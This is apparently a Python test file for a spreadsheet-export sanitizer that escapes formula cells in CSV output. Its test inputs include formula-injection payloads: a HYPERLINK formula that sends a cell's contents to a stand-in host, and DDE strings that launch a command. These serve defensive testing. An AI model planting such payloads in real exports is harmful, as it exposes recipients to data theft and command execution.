"""What people wrote stays text in a spreadsheet, and numbers stay numbers."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.studies.spreadsheet import defused, to_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a.example/"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        "＝1+1",
        "-",
        "-inf",
    ],
)
def test_formulas_get_an_apostrophe(text):
    """Whatever a spreadsheet might run, also behind what shows nothing."""
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("value", ["", "general", "a=b", "3-4", "-3.5", "+1e5", "'=1", -3.5, None])
def test_everything_else_stays(value):
    """Plain text, numbers, and numbers written as text."""
    assert defused(value) is value


def test_a_table_by_hand():
    """Only text cells and names of columns change; digits and empty cells do not."""
    frame = pd.DataFrame(
        {"=tag": ["@SUM(1)", None, "cats"], "n": [-1, 2, 3], "share": [-0.1, None, 0.25]}
    )

    assert to_csv(frame) == "'=tag,n,share\n'@SUM(1),-1,-0.1\n,2,\ncats,3,0.25\n"
    assert frame.columns[0] == "=tag"
    assert frame["=tag"][0] == "@SUM(1)"


def test_other_kinds_stay():
    """Dates, whole numbers beside an empty cell, and categories are written as without this."""
    frame = pd.DataFrame(
        {
            "day": pd.to_datetime(["2024-05-13", "2024-05-14"]),
            "n": pd.Series([3, None], dtype=object),
            "kind": pd.Categorical(["-x", "y"]),
        }
    )

    assert to_csv(frame) == "day,n,kind\n2024-05-13,3,'-x\n2024-05-14,,y\n"


@given(st.lists(st.text(alphabet='=+-@\t\r a1,"\u200b＝', min_size=1), min_size=1, max_size=4))
def test_no_cell_is_a_formula(texts):
    """Read back, no cell begins as a formula unless it is a number, and the text is all there."""
    cells = [row[0] for row in csv.reader(io.StringIO(to_csv(pd.DataFrame({"x": texts}))))][1:]

    for cell, text in zip(cells, texts, strict=True):
        assert cell.removeprefix("'") == text.replace("\r", "\n").removeprefix("'")
        if cell.lstrip(" \u200b")[:1] in {*"=+-@＝\t\r"}:
            float(cell)
